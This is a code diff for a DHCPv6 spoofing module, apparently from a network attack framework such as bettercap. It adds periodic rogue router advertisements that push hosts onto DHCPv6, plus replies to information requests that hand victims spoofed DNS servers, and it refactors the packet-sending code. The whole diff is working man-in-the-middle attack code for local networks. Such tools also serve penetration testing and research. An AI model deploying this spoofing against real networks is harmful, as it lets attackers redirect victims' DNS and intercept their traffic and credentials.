@@ -32,6 +32,8 @@ type DHCP6Spoofer struct {
 	DUIDRaw       []byte
 	Domains       []string
 	RawDomains    []byte
+	sendRA        bool
+	raInterval    time.Duration
 	waitGroup     *sync.WaitGroup
 	pktSourceChan chan gopacket.Packet
 }
@@ -50,6 +52,14 @@ func NewDHCP6Spoofer(s *session.Session) *DHCP6Spoofer {
 		``,
 		"Comma separated values of domain names to spoof."))
 
+	mod.AddParam(session.NewBoolParameter("dhcp6.spoof.ra",
+		"true",
+		"If true, periodically send router advertisements with the managed and other configuration flags set, so that hosts will ask for their configuration via DHCPv6."))
+
+	mod.AddParam(session.NewIntParameter("dhcp6.spoof.ra.interval",
+		"200",
+		"Number of seconds between router advertisements."))
+
 	mod.AddHandler(session.NewModuleHandler("dhcp6.spoof on", "",
 		"Start the DHCPv6 spoofer in the background.",
 		func(args []string) error {
@@ -99,6 +109,16 @@ func (mod *DHCP6Spoofer) Configure() error {
 
 	mod.RawDomains = packets.DHCP6EncodeList(mod.Domains)
 
+	var raInterval int
+	if err, mod.sendRA = mod.BoolParam("dhcp6.spoof.ra"); err != nil {
+		return err
+	} else if err, raInterval = mod.IntParam("dhcp6.spoof.ra.interval"); err != nil {
+		return err
+	} else if raInterval <= 0 {
+		return fmt.Errorf("dhcp6.spoof.ra.interval must be greater than 0")
+	}
+	mod.raInterval = time.Duration(raInterval) * time.Second
+
 	if mod.DUID, err = dhcp6opts.NewDUIDLLT(1, time.Date(2000, time.January, 1, 0, 0, 0, 0, time.UTC), mod.Session.Interface.HW); err != nil {
 		return err
 	} else if mod.DUIDRaw, err = mod.DUID.MarshalBinary(); err != nil {
@@ -125,9 +145,54 @@ func (mod *DHCP6Spoofer) dhcp6For(what dhcp6.MessageType, to dhcp6.Packet) (err
 	return nil, p
 }
 
-func (mod *DHCP6Spoofer) dhcpAdvertise(pkt gopacket.Packet, solicit dhcp6.Packet, target net.HardwareAddr) {
+func (mod *DHCP6Spoofer) send(pkt gopacket.Packet, msg dhcp6.Packet, target net.HardwareAddr) bool {
+	rawMsg, err := msg.MarshalBinary()
+	if err != nil {
+		mod.Error("Error serializing %s packet: %s.", msg.MessageType, err)
+		return false
+	}
+
 	pip6 := pkt.Layer(layers.LayerTypeIPv6).(*layers.IPv6)
+	eth := layers.Ethernet{
+		SrcMAC:       mod.Session.Interface.HW,
+		DstMAC:       target,
+		EthernetType: layers.EthernetTypeIPv6,
+	}
+
+	ip6 := layers.IPv6{
+		Version:    6,
+		NextHeader: layers.IPProtocolUDP,
+		HopLimit:   64,
+		SrcIP:      mod.Session.Interface.IPv6,
+		DstIP:      pip6.SrcIP,
+	}
+
+	udp := layers.UDP{
+		SrcPort: 547,
+		DstPort: 546,
+	}
+
+	udp.SetNetworkLayerForChecksum(&ip6)
 
+	dhcp := packets.DHCPv6Layer{
+		Raw: rawMsg,
+	}
+
+	err, raw := packets.Serialize(&eth, &ip6, &udp, &dhcp)
+	if err != nil {
+		mod.Error("Error serializing packet: %s.", err)
+		return false
+	}
+
+	mod.Debug("Sending %d bytes of packet ...", len(raw))
+	if err := mod.Session.Queue.Send(raw); err != nil {
+		mod.Error("Error sending packet: %s", err)
+		return false
+	}
+	return true
+}
+
+func (mod *DHCP6Spoofer) dhcpAdvertise(pkt gopacket.Packet, solicit dhcp6.Packet, target net.HardwareAddr) {
 	fqdn := target.String()
 	if raw, found := solicit.Options[packets.DHCP6OptClientFQDN]; found && len(raw) >= 1 {
 		fqdn = string(raw[0])
@@ -183,47 +248,7 @@ func (mod *DHCP6Spoofer) dhcpAdvertise(pkt gopacket.Packet, solicit dhcp6.Packet
 
 	adv.Options.AddRaw(dhcp6.OptionIANA, ianaRaw)
 
-	rawAdv, err := adv.MarshalBinary()
-	if err != nil {
-		mod.Error("Error serializing advertisement packet: %s.", err)
-		return
-	}
-
-	eth := layers.Ethernet{
-		SrcMAC:       mod.Session.Interface.HW,
-		DstMAC:       target,
-		EthernetType: layers.EthernetTypeIPv6,
-	}
-
-	ip6 := layers.IPv6{
-		Version:    6,
-		NextHeader: layers.IPProtocolUDP,
-		HopLimit:   64,
-		SrcIP:      mod.Session.Interface.IPv6,
-		DstIP:      pip6.SrcIP,
-	}
-
-	udp := layers.UDP{
-		SrcPort: 547,
-		DstPort: 546,
-	}
-
-	udp.SetNetworkLayerForChecksum(&ip6)
-
-	dhcp := packets.DHCPv6Layer{
-		Raw: rawAdv,
-	}
-
-	err, raw := packets.Serialize(&eth, &ip6, &udp, &dhcp)
-	if err != nil {
-		mod.Error("Error serializing packet: %s.", err)
-		return
-	}
-
-	mod.Debug("Sending %d bytes of packet ...", len(raw))
-	if err := mod.Session.Queue.Send(raw); err != nil {
-		mod.Error("Error sending packet: %s", err)
-	}
+	mod.send(pkt, adv, target)
 }
 
 func (mod *DHCP6Spoofer) dhcpReply(toType string, pkt gopacket.Packet, req dhcp6.Packet, target net.HardwareAddr) {
@@ -261,49 +286,10 @@ func (mod *DHCP6Spoofer) dhcpReply(toType string, pkt gopacket.Packet, req dhcp6
 	}
 	reply.Options.AddRaw(dhcp6.OptionIANA, ianaRaw)
 
-	rawAdv, err := reply.MarshalBinary()
-	if err != nil {
-		mod.Error("Error serializing advertisement packet: %s.", err)
-		return
-	}
-
-	pip6 := pkt.Layer(layers.LayerTypeIPv6).(*layers.IPv6)
-	eth := layers.Ethernet{
-		SrcMAC:       mod.Session.Interface.HW,
-		DstMAC:       target,
-		EthernetType: layers.EthernetTypeIPv6,
-	}
-
-	ip6 := layers.IPv6{
-		Version:    6,
-		NextHeader: layers.IPProtocolUDP,
-		HopLimit:   64,
-		SrcIP:      mod.Session.Interface.IPv6,
-		DstIP:      pip6.SrcIP,
-	}
-
-	udp := layers.UDP{
-		SrcPort: 547,
-		DstPort: 546,
-	}
-
-	udp.SetNetworkLayerForChecksum(&ip6)
-
-	dhcp := packets.DHCPv6Layer{
-		Raw: rawAdv,
-	}
-
-	err, raw := packets.Serialize(&eth, &ip6, &udp, &dhcp)
-	if err != nil {
-		mod.Error("Error serializing packet: %s.", err)
+	if !mod.send(pkt, reply, target) {
 		return
 	}
 
-	mod.Debug("Sending %d bytes of packet ...", len(raw))
-	if err := mod.Session.Queue.Send(raw); err != nil {
-		mod.Error("Error sending packet: %s", err)
-	}
-
 	if toType == "request" {
 		var addr net.IP
 		if raw, found := reqIANA.Options[dhcp6.OptionIAAddr]; found {
@@ -320,6 +306,43 @@ func (mod *DHCP6Spoofer) dhcpReply(toType string, pkt gopacket.Packet, req dhcp6
 	}
 }
 
+// windows hosts told to use DHCPv6 for the other configuration only ask
+// for the DNS servers, without any identity association.
+func (mod *DHCP6Spoofer) dhcpInfoReply(pkt gopacket.Packet, req dhcp6.Packet, target net.HardwareAddr) {
+	err, reply := mod.dhcp6For(dhcp6.MessageTypeReply, req)
+	if err != nil {
+		mod.Error("%s", err)
+		return
+	}
+
+	if mod.send(pkt, reply, target) {
+		who := target.String()
+		if h, found := mod.Session.Lan.Get(who); found {
+			who = h.String()
+		}
+		mod.Info("Sent spoofed DNS configuration to %s after its information request.", tui.Bold(who))
+	}
+}
+
+func (mod *DHCP6Spoofer) routerAdvertiser() {
+	defer mod.waitGroup.Done()
+
+	mod.Info("Sending router advertisements every %s.", mod.raInterval)
+
+	for mod.Running() {
+		if err, ra := packets.ICMP6ManagedRouterAdvertisement(mod.Session.Interface.IPv6, mod.Session.Interface.HW); err != nil {
+			mod.Error("Error creating router advertisement: %s", err)
+		} else if err = mod.Session.Queue.Send(ra); err != nil {
+			mod.Error("Error sending router advertisement: %s", err)
+		}
+
+		// sleep in small steps to stop timely
+		for slept := time.Duration(0); slept < mod.raInterval && mod.Running(); slept += time.Second {
+			time.Sleep(time.Second)
+		}
+	}
+}
+
 func (mod *DHCP6Spoofer) duidMatches(dhcp dhcp6.Packet) bool {
 	if raw, found := dhcp.Options[dhcp6.OptionServerID]; found && len(raw) >= 1 {
 		if bytes.Equal(raw[0], mod.DUIDRaw) {
@@ -355,6 +378,9 @@ func (mod *DHCP6Spoofer) onPacket(pkt gopacket.Packet) {
 			if mod.duidMatches(dhcp) {
 				mod.dhcpReply("renew", pkt, dhcp, eth.SrcMAC)
 			}
+
+		case dhcp6.MessageTypeInformationRequest:
+			mod.dhcpInfoReply(pkt, dhcp, eth.SrcMAC)
 		}
 	}
 }
@@ -368,6 +394,11 @@ func (mod *DHCP6Spoofer) Start() error {
 		mod.waitGroup.Add(1)
 		defer mod.waitGroup.Done()
 
+		if mod.sendRA {
+			mod.waitGroup.Add(1)
+			go mod.routerAdvertiser()
+		}
+
 		src := gopacket.NewPacketSource(mod.Handle, mod.Handle.LinkType())
 		mod.pktSourceChan = src.Packets()
 		for packet := range mod.pktSourceChan {